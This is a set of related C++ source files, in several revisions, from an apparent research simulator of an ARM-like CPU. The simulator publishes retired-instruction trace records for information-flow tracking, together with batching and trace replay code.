        PIFT_END;
    }
    PIFT_OP(And)
        src_alu();
        alu_result(regs[inst.rn] & readOperand2(inst.op2),
                   inst.set_flags);
        PIFT_END;
    PIFT_OP(Orr)
        src_alu();
        alu_result(regs[inst.rn] | readOperand2(inst.op2),
                   inst.set_flags);
        PIFT_END;
    PIFT_OP(Eor)
        src_alu();
        alu_result(regs[inst.rn] ^ readOperand2(inst.op2),
                   inst.set_flags);
        PIFT_END;
    PIFT_OP(Bic)
        src_alu();
        alu_result(regs[inst.rn] & ~readOperand2(inst.op2),
                   inst.set_flags);
        PIFT_END;
    PIFT_OP(Lsl) {
        src_alu();
        uint32_t sh = readOperand2(inst.op2) & 0xff;
        alu_result(sh >= 32 ? 0 : regs[inst.rn] << sh, inst.set_flags);
        PIFT_END;
    }
    PIFT_OP(Lsr) {
        src_alu();
        uint32_t sh = readOperand2(inst.op2) & 0xff;
        alu_result(sh >= 32 ? 0 : regs[inst.rn] >> sh, inst.set_flags);
        PIFT_END;
    }
    PIFT_OP(Asr) {
        src_alu();
        uint32_t sh = readOperand2(inst.op2) & 0xff;
        alu_result(static_cast<uint32_t>(
                       static_cast<int32_t>(regs[inst.rn]) >>
                       (sh >= 32 ? 31 : sh)),
                   inst.set_flags);
        PIFT_END;
    }

    PIFT_OP(Ubfx) {
        rec.src[0] = inst.rn;
        uint32_t mask = inst.bit_width >= 32
            ? 0xffffffffu : ((1u << inst.bit_width) - 1);
        alu_result((regs[inst.rn] >> inst.bit_lsb) & mask, false);
        PIFT_END;
    }
    PIFT_OP(Sbfx) {
        rec.src[0] = inst.rn;
        uint32_t mask = inst.bit_width >= 32
            ? 0xffffffffu : ((1u << inst.bit_width) - 1);
        uint32_t v = (regs[inst.rn] >> inst.bit_lsb) & mask;
        uint32_t sign = 1u << (inst.bit_width - 1);
        alu_result((v ^ sign) - sign, false);
        PIFT_END;
    }
    PIFT_OP(Sxth)
        rec.src[0] = inst.rn;
        alu_result(static_cast<uint32_t>(static_cast<int32_t>(
                       static_cast<int16_t>(regs[inst.rn] & 0xffff))),
                   false);
        PIFT_END;
    PIFT_OP(Uxth)
        rec.src[0] = inst.rn;
        alu_result(regs[inst.rn] & 0xffff, false);
        PIFT_END;
    PIFT_OP(Uxtb)
        rec.src[0] = inst.rn;
        alu_result(regs[inst.rn] & 0xff, false);
        PIFT_END;

    PIFT_OP(Cmp)
        src_alu();
        sub_flags(regs[inst.rn], readOperand2(inst.op2));
        PIFT_END;
    PIFT_OP(Cmn)
        src_alu();
        add_flags(regs[inst.rn], readOperand2(inst.op2));
        PIFT_END;
    PIFT_OP(Tst)
        src_alu();
        setNZ(regs[inst.rn] & readOperand2(inst.op2));
        PIFT_END;

    PIFT_OP(B)
        regs[reg_pc] = inst.target;
        PIFT_END;
    PIFT_OP(Bl)
        regs[reg_lr] = rec.pc + isa::inst_bytes;
        regs[reg_pc] = inst.target;
        PIFT_END;
    PIFT_OP(Bx)
        rec.src[0] = inst.op2.reg;
        regs[reg_pc] = regs[inst.op2.reg];
        PIFT_END;

#if !PIFT_THREADED_DISPATCH
    PIFT_OP(Ldrh)
    PIFT_OP(Ldrb)
#endif
    PIFT_OP(Ldr) {
        Addr ea = effectiveAddress(regs, inst.mem);
        unsigned bytes = isa::transferBytes(inst.op);
        pift_assert(inst.rd != reg_pc, "load to pc unsupported");
        regs[inst.rd] = static_cast<uint32_t>(mem_ref.read(ea, bytes));
        rec.dst = inst.rd;
        rec.mem_kind = MemKind::Load;
        rec.mem_start = ea;
        rec.mem_end = ea + bytes - 1;
        PIFT_END;
    }
    PIFT_OP(Ldrd) {
        Addr ea = effectiveAddress(regs, inst.mem);
        pift_assert(inst.rd + 1 < 15, "ldrd register pair out of range");
        regs[inst.rd] = mem_ref.read32(ea);
        regs[inst.rd + 1] = mem_ref.read32(ea + 4);
        rec.dst = inst.rd;
        rec.dst2 = inst.rd + 1;
        rec.mem_kind = MemKind::Load;
        rec.mem_start = ea;
        rec.mem_end = ea + 7;
        PIFT_END;
    }
#if !PIFT_THREADED_DISPATCH
    PIFT_OP(Strh)
    PIFT_OP(Strb)
#endif
    PIFT_OP(Str) {
        Addr ea = effectiveAddress(regs, inst.mem);
        unsigned bytes = isa::transferBytes(inst.op);
        mem_ref.write(ea, regs[inst.rd], bytes);
        rec.src[0] = inst.rd;
        rec.mem_kind = MemKind::Store;
        rec.mem_start = ea;
        rec.mem_end = ea + bytes - 1;
        PIFT_END;
    }
    PIFT_OP(Strd) {
        Addr ea = effectiveAddress(regs, inst.mem);
        pift_assert(inst.rd + 1 < 15, "strd register pair out of range");
        mem_ref.write32(ea, regs[inst.rd]);
        mem_ref.write32(ea + 4, regs[inst.rd + 1]);
        rec.src[0] = inst.rd;
        rec.src[1] = inst.rd + 1;
        rec.mem_kind = MemKind::Store;
        rec.mem_start = ea;
        rec.mem_end = ea + 7;
        PIFT_END;
    }
    PIFT_OP(Ldm) {
        pift_assert(inst.reg_count > 0 &&
                    inst.rd + inst.reg_count <= 15,
                    "ldm register list out of range");
        Addr base = regs[inst.rn];
        for (uint8_t i = 0; i < inst.reg_count; ++i)
            regs[inst.rd + i] = mem_ref.read32(base + 4u * i);
        regs[inst.rn] = base + 4u * inst.reg_count;
        rec.dst = inst.rd;
        rec.dst2 = inst.rd + inst.reg_count - 1;
        rec.reg_count = inst.reg_count;
        rec.mem_kind = MemKind::Load;
        rec.mem_start = base;
        rec.mem_end = base + 4u * inst.reg_count - 1;
        PIFT_END;
    }
    PIFT_OP(Stm) {
        pift_assert(inst.reg_count > 0 &&
                    inst.rd + inst.reg_count <= 15,
                    "stm register list out of range");
        Addr base = regs[inst.rn];
        for (uint8_t i = 0; i < inst.reg_count; ++i)
            mem_ref.write32(base + 4u * i, regs[inst.rd + i]);
        regs[inst.rn] = base + 4u * inst.reg_count;
        rec.src[0] = inst.rd;
        rec.reg_count = inst.reg_count;
        rec.mem_kind = MemKind::Store;
        rec.mem_start = base;
        rec.mem_end = base + 4u * inst.reg_count - 1;
        PIFT_END;
    }

    PIFT_OP(Svc)
        // Published first; the trap handler runs in run().
        rec.aux = inst.svc_num;
        PIFT_END;

    PIFT_OP(Halt)
        halted = true;
        PIFT_END;

#if PIFT_THREADED_DISPATCH
lbl_dispatch_done:;
#else
      default:
        pift_panic("unimplemented opcode %d",
                   static_cast<int>(inst.op));
    }
#endif
}

#undef PIFT_OP
#undef PIFT_END

void
Cpu::publish(TraceRecord &rec)
{
    rec.seq = nretired++;
    rec.pid = cur_pid;
    rec.local_seq = local_counts[cur_pid]++;
    if (batch_cap == 0) {
        hub.publish(rec);
        return;
    }
    packer.append(rec);
    if (packer.size() >= batch_cap)
        flushBatch();
}

void
Cpu::flushBatch()
{
    if (packer.empty())
        return;
    hub.publishBatch(packer.seal());
    packer.clear();
}

uint64_t
Cpu::run(uint64_t max_steps)
{
    halted = false;
    uint64_t steps = 0;
    while (!halted) {
        if (steps >= max_steps)
            pift_panic("instruction budget exhausted at pc 0x%x",
                       regs[reg_pc]);

        const isa::Inst *inst = fetch(regs[reg_pc]);
        if (!inst)
            pift_panic("fetch from unmapped pc 0x%x", regs[reg_pc]);

        TraceRecord rec;
        rec.pc = regs[reg_pc];
        rec.op = inst->op;
        regs[reg_pc] = rec.pc + isa::inst_bytes;

        bool taken = condPasses(inst->cond);
        if (taken)
            execute(*inst, rec);
        ++steps;

        if (inst->op == isa::Op::Halt) {
            // Simulator-only; never published.
            if (!taken)
                halted = true;
            continue;
        }

        publish(rec);

        if (taken && inst->op == isa::Op::Svc) {
            if (!svc)
                pift_panic("svc #%u with no handler installed",
                           inst->svc_num);
            // The handler issues control events stamped with the
            // hub's record count: drain the pending chunk first so
            // the live interleaving matches per-event publishing.
            flushBatch();
            svc(*this, inst->svc_num);
        }
    }
    // Reset so an enclosing run() (re-entrant execution from an Svc
    // handler) is not terminated by this loop's halt.
    halted = false;
    flushBatch();
    return steps;
}

uint64_t
Cpu::call(Addr entry, uint64_t max_steps)
{
    uint32_t saved_pc = regs[reg_pc];
    uint32_t saved_lr = regs[reg_lr];
    regs[reg_lr] = halt_stub_addr;
    regs[reg_pc] = entry;
    uint64_t n = run(max_steps);
    regs[reg_pc] = saved_pc;
    regs[reg_lr] = saved_lr;
    return n;
}

} // namespace pift::sim
