#include "sim/cpu.hh"

#include "support/logging.hh"

namespace pift::sim
{

Cpu::Cpu(mem::Memory &memory, EventHub &hub_)
    : mem_ref(memory), hub(hub_)
{
    isa::Assembler stub(halt_stub_addr);
    stub.halt();
    loadProgram(stub.finish());
}

void
Cpu::loadProgram(isa::Program prog)
{
    if (prog.insts.empty())
        pift_panic("loading an empty program at 0x%x", prog.base);
    // Reject overlap with any mapped region.
    auto next = programs.lower_bound(prog.base);
    if (next != programs.end() && next->second.base < prog.end())
        pift_panic("program at 0x%x overlaps region at 0x%x", prog.base,
                   next->second.base);
    if (next != programs.begin()) {
        auto prev = std::prev(next);
        if (prev->second.end() > prog.base)
            pift_panic("program at 0x%x overlaps region at 0x%x",
                       prog.base, prev->second.base);
    }
    Addr base = prog.base;
    programs.emplace(base, std::move(prog));
}

const isa::Inst *
Cpu::instAt(Addr addr) const
{
    auto it = programs.upper_bound(addr);
    if (it == programs.begin())
        return nullptr;
    const isa::Program &prog = std::prev(it)->second;
    if (!prog.contains(addr))
        return nullptr;
    return &prog.insts[(addr - prog.base) / isa::inst_bytes];
}

uint32_t
Cpu::reg(RegIndex r) const
{
    pift_assert(r < 16, "register index out of range");
    return regs[r];
}

void
Cpu::setReg(RegIndex r, uint32_t value)
{
    pift_assert(r < 16, "register index out of range");
    regs[r] = value;
}

SeqNum
Cpu::localCount(ProcId pid) const
{
    auto it = local_counts.find(pid);
    return it == local_counts.end() ? 0 : it->second;
}

bool
Cpu::condPasses(isa::Cond cond) const
{
    using isa::Cond;
    switch (cond) {
      case Cond::Al: return true;
      case Cond::Eq: return flag_z;
      case Cond::Ne: return !flag_z;
      case Cond::Cs: return flag_c;
      case Cond::Cc: return !flag_c;
      case Cond::Mi: return flag_n;
      case Cond::Pl: return !flag_n;
      case Cond::Ge: return flag_n == flag_v;
      case Cond::Lt: return flag_n != flag_v;
      case Cond::Gt: return !flag_z && flag_n == flag_v;
      case Cond::Le: return flag_z || flag_n != flag_v;
    }
    return true;
}

uint32_t
Cpu::readOperand2(const isa::Operand2 &op2) const
{
    if (op2.is_imm)
        return static_cast<uint32_t>(op2.imm);
    uint32_t v = regs[op2.reg];
    switch (op2.shift) {
      case isa::ShiftKind::Lsl:
        return op2.shift_amount >= 32 ? 0 : v << op2.shift_amount;
      case isa::ShiftKind::Lsr:
        return op2.shift_amount >= 32 ? 0 : v >> op2.shift_amount;
      case isa::ShiftKind::Asr:
        return static_cast<uint32_t>(
            static_cast<int32_t>(v) >>
            (op2.shift_amount >= 32 ? 31 : op2.shift_amount));
      case isa::ShiftKind::None:
        return v;
    }
    return v;
}

void
Cpu::setNZ(uint32_t result)
{
    flag_n = (result >> 31) & 1;
    flag_z = result == 0;
}

namespace
{

/** Effective address of a memory operand, applying writeback. */
Addr
effectiveAddress(std::array<uint32_t, 16> &regs,
                 const isa::MemOperand &mem)
{
    uint32_t base = regs[mem.base];
    if (mem.index != no_reg)
        return base + (regs[mem.index] << mem.index_shift);
    switch (mem.writeback) {
      case isa::WriteBack::None:
        return base + static_cast<uint32_t>(mem.offset);
      case isa::WriteBack::Pre: {
        Addr ea = base + static_cast<uint32_t>(mem.offset);
        regs[mem.base] = ea;
        return ea;
      }
      case isa::WriteBack::Post:
        regs[mem.base] = base + static_cast<uint32_t>(mem.offset);
        return base;
    }
    return base;
}

} // anonymous namespace

void
Cpu::execute(const isa::Inst &inst, TraceRecord &rec)
{
    using isa::Op;

    auto alu_result = [&](uint32_t result, bool write_flags) {
        if (inst.rd == reg_pc) {
            regs[reg_pc] = result;
        } else if (inst.rd != no_reg) {
            regs[inst.rd] = result;
            if (write_flags)
                setNZ(result);
        }
        rec.dst = inst.rd;
    };

    auto add_flags = [&](uint32_t a, uint32_t b) {
        uint32_t r = a + b;
        flag_c = r < a;
        flag_v = ((~(a ^ b) & (a ^ r)) >> 31) & 1;
        setNZ(r);
        return r;
    };
    auto sub_flags = [&](uint32_t a, uint32_t b) {
        uint32_t r = a - b;
        flag_c = a >= b;
        flag_v = (((a ^ b) & (a ^ r)) >> 31) & 1;
        setNZ(r);
        return r;
    };

    auto src_alu = [&]() {
        uint8_t n = 0;
        if (inst.rn != no_reg)
            rec.src[n++] = inst.rn;
        if (!inst.op2.is_imm && inst.op2.reg != no_reg)
            rec.src[n++] = inst.op2.reg;
    };

    switch (inst.op) {
      case Op::Nop:
        break;

      case Op::Mov:
        src_alu();
        alu_result(readOperand2(inst.op2), inst.set_flags);
        break;
      case Op::Mvn:
        src_alu();
        alu_result(~readOperand2(inst.op2), inst.set_flags);
        break;
      case Op::Add: {
        src_alu();
        uint32_t a = regs[inst.rn], b = readOperand2(inst.op2);
        alu_result(inst.set_flags ? add_flags(a, b) : a + b, false);
        break;
      }
      case Op::Sub: {
        src_alu();
        uint32_t a = regs[inst.rn], b = readOperand2(inst.op2);
        alu_result(inst.set_flags ? sub_flags(a, b) : a - b, false);
        break;
      }
      case Op::Rsb: {
        src_alu();
        uint32_t a = regs[inst.rn], b = readOperand2(inst.op2);
        alu_result(b - a, inst.set_flags);
        break;
      }
      case Op::Mul: {
        src_alu();
        alu_result(regs[inst.rn] * readOperand2(inst.op2),
                   inst.set_flags);
        break;
      }
      case Op::And:
        src_alu();
        alu_result(regs[inst.rn] & readOperand2(inst.op2),
                   inst.set_flags);
        break;
      case Op::Orr:
        src_alu();
        alu_result(regs[inst.rn] | readOperand2(inst.op2),
                   inst.set_flags);
        break;
      case Op::Eor:
        src_alu();
        alu_result(regs[inst.rn] ^ readOperand2(inst.op2),
                   inst.set_flags);
        break;
      case Op::Bic:
        src_alu();
        alu_result(regs[inst.rn] & ~readOperand2(inst.op2),
                   inst.set_flags);
        break;
      case Op::Lsl: {
        src_alu();
        uint32_t sh = readOperand2(inst.op2) & 0xff;
        alu_result(sh >= 32 ? 0 : regs[inst.rn] << sh, inst.set_flags);
        break;
      }
      case Op::Lsr: {
        src_alu();
        uint32_t sh = readOperand2(inst.op2) & 0xff;
        alu_result(sh >= 32 ? 0 : regs[inst.rn] >> sh, inst.set_flags);
        break;
      }
      case Op::Asr: {
        src_alu();
        uint32_t sh = readOperand2(inst.op2) & 0xff;
        alu_result(static_cast<uint32_t>(
                       static_cast<int32_t>(regs[inst.rn]) >>
                       (sh >= 32 ? 31 : sh)),
                   inst.set_flags);
        break;
      }

      case Op::Ubfx: {
        rec.src[0] = inst.rn;
        uint32_t mask = inst.bit_width >= 32
            ? 0xffffffffu : ((1u << inst.bit_width) - 1);
        alu_result((regs[inst.rn] >> inst.bit_lsb) & mask, false);
        break;
      }
      case Op::Sbfx: {
        rec.src[0] = inst.rn;
        uint32_t mask = inst.bit_width >= 32
            ? 0xffffffffu : ((1u << inst.bit_width) - 1);
        uint32_t v = (regs[inst.rn] >> inst.bit_lsb) & mask;
        uint32_t sign = 1u << (inst.bit_width - 1);
        alu_result((v ^ sign) - sign, false);
        break;
      }
      case Op::Sxth:
        rec.src[0] = inst.rn;
        alu_result(static_cast<uint32_t>(static_cast<int32_t>(
                       static_cast<int16_t>(regs[inst.rn] & 0xffff))),
                   false);
        break;
      case Op::Uxth:
        rec.src[0] = inst.rn;
        alu_result(regs[inst.rn] & 0xffff, false);
        break;
      case Op::Uxtb:
        rec.src[0] = inst.rn;
        alu_result(regs[inst.rn] & 0xff, false);
        break;

      case Op::Cmp:
        src_alu();
        sub_flags(regs[inst.rn], readOperand2(inst.op2));
        break;
      case Op::Cmn:
        src_alu();
        add_flags(regs[inst.rn], readOperand2(inst.op2));
        break;
      case Op::Tst:
        src_alu();
        setNZ(regs[inst.rn] & readOperand2(inst.op2));
        break;

      case Op::B:
        regs[reg_pc] = inst.target;
        break;
      case Op::Bl:
        regs[reg_lr] = rec.pc + isa::inst_bytes;
        regs[reg_pc] = inst.target;
        break;
      case Op::Bx:
        rec.src[0] = inst.op2.reg;
        regs[reg_pc] = regs[inst.op2.reg];
        break;

      case Op::Ldr:
      case Op::Ldrh:
      case Op::Ldrb: {
        Addr ea = effectiveAddress(regs, inst.mem);
        unsigned bytes = isa::transferBytes(inst.op);
        pift_assert(inst.rd != reg_pc, "load to pc unsupported");
        regs[inst.rd] = static_cast<uint32_t>(mem_ref.read(ea, bytes));
        rec.dst = inst.rd;
        rec.mem_kind = MemKind::Load;
        rec.mem_start = ea;
        rec.mem_end = ea + bytes - 1;
        break;
      }
      case Op::Ldrd: {
        Addr ea = effectiveAddress(regs, inst.mem);
        pift_assert(inst.rd + 1 < 15, "ldrd register pair out of range");
        regs[inst.rd] = mem_ref.read32(ea);
        regs[inst.rd + 1] = mem_ref.read32(ea + 4);
        rec.dst = inst.rd;
        rec.dst2 = inst.rd + 1;
        rec.mem_kind = MemKind::Load;
        rec.mem_start = ea;
        rec.mem_end = ea + 7;
        break;
      }
      case Op::Str:
      case Op::Strh:
      case Op::Strb: {
        Addr ea = effectiveAddress(regs, inst.mem);
        unsigned bytes = isa::transferBytes(inst.op);
        mem_ref.write(ea, regs[inst.rd], bytes);
        rec.src[0] = inst.rd;
        rec.mem_kind = MemKind::Store;
        rec.mem_start = ea;
        rec.mem_end = ea + bytes - 1;
        break;
      }
      case Op::Strd: {
        Addr ea = effectiveAddress(regs, inst.mem);
        pift_assert(inst.rd + 1 < 15, "strd register pair out of range");
        mem_ref.write32(ea, regs[inst.rd]);
        mem_ref.write32(ea + 4, regs[inst.rd + 1]);
        rec.src[0] = inst.rd;
        rec.src[1] = inst.rd + 1;
        rec.mem_kind = MemKind::Store;
        rec.mem_start = ea;
        rec.mem_end = ea + 7;
        break;
      }
      case Op::Ldm: {
        pift_assert(inst.reg_count > 0 &&
                    inst.rd + inst.reg_count <= 15,
                    "ldm register list out of range");
        Addr base = regs[inst.rn];
        for (uint8_t i = 0; i < inst.reg_count; ++i)
            regs[inst.rd + i] = mem_ref.read32(base + 4u * i);
        regs[inst.rn] = base + 4u * inst.reg_count;
        rec.dst = inst.rd;
        rec.dst2 = inst.rd + inst.reg_count - 1;
        rec.reg_count = inst.reg_count;
        rec.mem_kind = MemKind::Load;
        rec.mem_start = base;
        rec.mem_end = base + 4u * inst.reg_count - 1;
        break;
      }
      case Op::Stm: {
        pift_assert(inst.reg_count > 0 &&
                    inst.rd + inst.reg_count <= 15,
                    "stm register list out of range");
        Addr base = regs[inst.rn];
        for (uint8_t i = 0; i < inst.reg_count; ++i)
            mem_ref.write32(base + 4u * i, regs[inst.rd + i]);
        regs[inst.rn] = base + 4u * inst.reg_count;
        rec.src[0] = inst.rd;
        rec.reg_count = inst.reg_count;
        rec.mem_kind = MemKind::Store;
        rec.mem_start = base;
        rec.mem_end = base + 4u * inst.reg_count - 1;
        break;
      }

      case Op::Svc:
        // Published first; the trap handler runs in run().
        rec.aux = inst.svc_num;
        break;

      case Op::Halt:
        halted = true;
        break;

      default:
        pift_panic("unimplemented opcode %d",
                   static_cast<int>(inst.op));
    }
}

void
Cpu::publish(TraceRecord &rec)
{
    rec.seq = nretired++;
    rec.pid = cur_pid;
    rec.local_seq = local_counts[cur_pid]++;
    hub.publish(rec);
}

uint64_t
Cpu::run(uint64_t max_steps)
{
    halted = false;
    uint64_t steps = 0;
    while (!halted) {
        if (steps >= max_steps)
            pift_panic("instruction budget exhausted at pc 0x%x",
                       regs[reg_pc]);

        const isa::Inst *inst = instAt(regs[reg_pc]);
        if (!inst)
            pift_panic("fetch from unmapped pc 0x%x", regs[reg_pc]);

        TraceRecord rec;
        rec.pc = regs[reg_pc];
        rec.op = inst->op;
        regs[reg_pc] = rec.pc + isa::inst_bytes;

        bool taken = condPasses(inst->cond);
        if (taken)
            execute(*inst, rec);
        ++steps;

        if (inst->op == isa::Op::Halt) {
            // Simulator-only; never published.
            if (!taken)
                halted = true;
            continue;
        }

        publish(rec);

        if (taken && inst->op == isa::Op::Svc) {
            if (!svc)
                pift_panic("svc #%u with no handler installed",
                           inst->svc_num);
            svc(*this, inst->svc_num);
        }
    }
    // Reset so an enclosing run() (re-entrant execution from an Svc
    // handler) is not terminated by this loop's halt.
    halted = false;
    return steps;
}

uint64_t
Cpu::call(Addr entry, uint64_t max_steps)
{
    uint32_t saved_pc = regs[reg_pc];
    uint32_t saved_lr = regs[reg_lr];
    regs[reg_lr] = halt_stub_addr;
    regs[reg_pc] = entry;
    uint64_t n = run(max_steps);
    regs[reg_pc] = saved_pc;
    regs[reg_lr] = saved_lr;
    return n;
}

} // namespace pift::sim
