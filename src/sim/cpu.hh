/**
 * @file
 * The simulated ARM-like CPU.
 *
 * An in-order, one-instruction-per-step functional model. Every
 * retired instruction is published to the EventHub as a TraceRecord —
 * that stream is the PIFT front-end tap (Figure 5 of the paper: the
 * front-end logic "tracks the instructions executed by the CPU's
 * instruction unit and generates events upon observing memory access
 * instructions"; we publish all retired instructions so the
 * per-process instruction counter is exact and the full-DIFT baseline
 * can consume the same stream).
 *
 * The Svc instruction traps to a registered handler (the Dalvik
 * runtime bridge); the handler may mutate machine state and may run
 * nested subroutines via call().
 */

#ifndef PIFT_SIM_CPU_HH
#define PIFT_SIM_CPU_HH

#include <functional>
#include <map>
#include <unordered_map>
#include <vector>

#include "isa/assembler.hh"
#include "isa/inst.hh"
#include "mem/memory.hh"
#include "sim/batch.hh"
#include "sim/trace.hh"
#include "support/types.hh"

namespace pift::sim
{

/** Well-known register assignments. */
inline constexpr RegIndex reg_sp = 13;
inline constexpr RegIndex reg_lr = 14;
inline constexpr RegIndex reg_pc = 15;

/** Address of the one-instruction halt stub used by call(). */
inline constexpr Addr halt_stub_addr = 0x0000'0f00;

/** Functional ARM-like CPU publishing a retired-instruction stream. */
class Cpu
{
  public:
    /** Called when the CPU retires an Svc instruction. */
    using SvcHandler = std::function<void(Cpu &, uint32_t)>;

    /**
     * @param memory backing memory (shared with the runtime)
     * @param hub event stream the CPU publishes to
     */
    Cpu(mem::Memory &memory, EventHub &hub);
    ~Cpu();

    /** Map a program into the code space; regions must not overlap. */
    void loadProgram(isa::Program prog);

    /**
     * Resize the decoded-instruction cache (DESIGN.md §12): a direct-
     * mapped pc-tagged table in front of the program-map walk, so the
     * fetch of a hot pc is one array probe instead of a tree descent.
     * @p slots is rounded up to a power of two; 0 disables the cache
     * (every fetch resolves through the program map — the reference
     * behaviour the decode-cache differential test compares against).
     * The cache is flushed by this call and by every loadProgram().
     */
    void setDecodeCache(size_t slots);

    /** Decoded-instruction cache capacity in slots (0 = disabled). */
    size_t decodeCacheSlots() const { return dcache.size(); }

    /**
     * Publish retired records in chunks of @p records through
     * EventHub::publishBatch (0 = per-event publish). Any pending
     * chunk is flushed first. The stream every sink observes is
     * identical either way: batches are flushed before each Svc trap
     * handler runs (so software-issued control events interleave
     * exactly as unbatched) and when run() returns.
     */
    void setBatching(uint32_t records);

    /** Current value of register @p r (reading pc gives pc+4). */
    uint32_t reg(RegIndex r) const;

    /** Set register @p r. Setting pc redirects execution. */
    void setReg(RegIndex r, uint32_t value);

    Addr pc() const { return regs[reg_pc]; }
    void setPc(Addr a) { regs[reg_pc] = a; }

    /** Install the Svc trap handler (the runtime bridge). */
    void setSvcHandler(SvcHandler handler) { svc = std::move(handler); }

    /** Switch the process-specific id (models a TTBR/PID change). */
    void setPid(ProcId pid) { cur_pid = pid; }
    ProcId pid() const { return cur_pid; }

    /** Total instructions retired on this CPU. */
    SeqNum retired() const { return nretired; }

    /** Per-process instruction counter (PIFT front-end state). */
    SeqNum localCount(ProcId pid) const;

    /**
     * Execute from the current pc until a Halt retires or @p max_steps
     * instructions have run (the latter panics: runaway program).
     *
     * @return instructions retired by this invocation
     */
    uint64_t run(uint64_t max_steps = 500'000'000ull);

    /**
     * Call a subroutine: lr is pointed at a halt stub so a final
     * `bx lr` stops execution; pc/lr are restored afterwards. Safe to
     * use re-entrantly from inside an Svc handler.
     *
     * @param entry subroutine address
     * @param max_steps instruction budget
     * @return instructions retired by the subroutine
     */
    uint64_t call(Addr entry, uint64_t max_steps = 500'000'000ull);

    /** Memory this CPU loads from and stores to. */
    mem::Memory &memory() { return mem_ref; }

    /** The instruction mapped at @p addr, or nullptr. */
    const isa::Inst *instAt(Addr addr) const;

  private:
    bool condPasses(isa::Cond cond) const;
    uint32_t readOperand2(const isa::Operand2 &op2) const;
    void setNZ(uint32_t result);
    void execute(const isa::Inst &inst, TraceRecord &rec);
    void publish(TraceRecord &rec);
    const isa::Inst *fetch(Addr addr);
    void flushBatch();

    /** One decoded-instruction cache slot (inst == nullptr: empty). */
    struct DecodeSlot
    {
        Addr pc = 0;
        const isa::Inst *inst = nullptr;
    };

    mem::Memory &mem_ref;
    EventHub &hub;

    std::array<uint32_t, 16> regs{};
    bool flag_n = false, flag_z = false, flag_c = false, flag_v = false;

    // Code map: programs keyed by base address for containment lookup.
    std::map<Addr, isa::Program> programs;

    SvcHandler svc;
    ProcId cur_pid = 1;
    SeqNum nretired = 0;
    std::unordered_map<ProcId, SeqNum> local_counts;
    bool halted = false;

    // Decoded-instruction cache. Program regions are never unloaded
    // or overlapped (loadProgram rejects overlap) and map nodes are
    // stable, so cached Inst pointers cannot dangle; the flush on
    // loadProgram guards the pc→instruction mapping itself.
    std::vector<DecodeSlot> dcache;
    Addr dcache_mask = 0; //!< slot index mask (slots - 1)

    // Live event batching (0 = off; droidbench::AppContext turns it
    // on). The packer owns the chunk storage reused across flushes.
    uint32_t batch_cap = 0;
    BatchPacker packer;

    // Hot-path telemetry tallies, published at destruction.
    uint64_t tel_decode_hits = 0;
    uint64_t tel_decode_misses = 0;
};

} // namespace pift::sim

#endif // PIFT_SIM_CPU_HH
