#include "sim/trace.hh"

#include <algorithm>

#include "support/logging.hh"

namespace pift::sim
{

void
EventHub::removeSink(TraceSink *sink)
{
    sinks.erase(std::remove(sinks.begin(), sinks.end(), sink),
                sinks.end());
}

void
TraceBuffer::onRecord(const TraceRecord &rec)
{
    data.records.push_back(rec);
}

void
TraceBuffer::onControl(const ControlEvent &ev)
{
    data.controls.push_back(ev);
}

void
replay(const Trace &trace, TraceSink &sink)
{
    size_t ci = 0;
    const size_t nc = trace.controls.size();
    for (size_t ri = 0; ri < trace.records.size(); ++ri) {
        // Deliver controls that were published before this record.
        while (ci < nc && trace.controls[ci].seq <= ri)
            sink.onControl(trace.controls[ci++]);
        sink.onRecord(trace.records[ri]);
    }
    while (ci < nc)
        sink.onControl(trace.controls[ci++]);
}

} // namespace pift::sim
