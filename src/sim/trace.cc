#include "sim/trace.hh"

#include <algorithm>

#include "support/logging.hh"

namespace pift::sim
{

void
EventHub::removeSink(TraceSink *sink)
{
    sinks.erase(std::remove(sinks.begin(), sinks.end(), sink),
                sinks.end());
}

void
TraceBuffer::onRecord(const TraceRecord &rec)
{
    data.records.push_back(rec);
}

void
TraceBuffer::onControl(const ControlEvent &ev)
{
    data.controls.push_back(ev);
}

void
replay(const Trace &trace, TraceSink &sink)
{
    replayFrom(trace, sink, 0, 0);
}

void
replayFrom(const Trace &trace, TraceSink &sink, SeqNum records_done,
           uint64_t controls_done)
{
    size_t ci = static_cast<size_t>(
        std::min<uint64_t>(controls_done, trace.controls.size()));
    const size_t nc = trace.controls.size();
    for (size_t ri = static_cast<size_t>(records_done);
         ri < trace.records.size(); ++ri) {
        // Deliver controls that were published before this record.
        while (ci < nc && trace.controls[ci].seq <= ri)
            sink.onControl(trace.controls[ci++]);
        sink.onRecord(trace.records[ri]);
    }
    while (ci < nc)
        sink.onControl(trace.controls[ci++]);
}

} // namespace pift::sim
