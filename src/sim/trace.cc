#include "sim/trace.hh"

#include <algorithm>

#include "sim/batch.hh"
#include "support/logging.hh"

namespace pift::sim
{

void
TraceSink::onBatch(const EventBatch &batch)
{
    // Batch-transparency shim: per-event sinks observe the exact
    // stream they would have seen unbatched.
    for (uint32_t i = 0; i < batch.count; ++i)
        onRecord(batch.records[i]);
}

void
EventHub::removeSink(TraceSink *sink)
{
    sinks.erase(std::remove(sinks.begin(), sinks.end(), sink),
                sinks.end());
}

void
EventHub::publishBatch(const EventBatch &batch)
{
    nrecords += batch.count;
    for (auto *s : sinks)
        s->onBatch(batch);
}

void
TraceBuffer::onRecord(const TraceRecord &rec)
{
    data.records.push_back(rec);
}

void
TraceBuffer::onBatch(const EventBatch &batch)
{
    data.records.insert(data.records.end(), batch.records,
                        batch.records + batch.count);
}

void
TraceBuffer::onControl(const ControlEvent &ev)
{
    data.controls.push_back(ev);
}

void
replay(const Trace &trace, TraceSink &sink)
{
    replayFrom(trace, sink, 0, 0);
}

void
replayFrom(const Trace &trace, TraceSink &sink, SeqNum records_done,
           uint64_t controls_done)
{
    size_t ci = static_cast<size_t>(
        std::min<uint64_t>(controls_done, trace.controls.size()));
    const size_t nc = trace.controls.size();
    for (size_t ri = static_cast<size_t>(records_done);
         ri < trace.records.size(); ++ri) {
        // Deliver controls that were published before this record.
        while (ci < nc && trace.controls[ci].seq <= ri)
            sink.onControl(trace.controls[ci++]);
        sink.onRecord(trace.records[ri]);
    }
    while (ci < nc)
        sink.onControl(trace.controls[ci++]);
}

} // namespace pift::sim
