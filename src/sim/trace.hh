/**
 * @file
 * The retired-instruction event stream.
 *
 * This is the interface between the simulated CPU and every consumer:
 * the PIFT front-end forwards exactly what TraceRecord carries
 * (process id, per-process instruction counter, access type, address
 * range — Section 3.3 of the paper), while the full-DIFT baseline also
 * uses the register operand fields. Source registrations and sink
 * checks are ControlEvents interleaved with the records so a captured
 * Trace can be replayed offline under many parameter settings, which
 * is how the paper ran its gem5-trace analyses.
 */

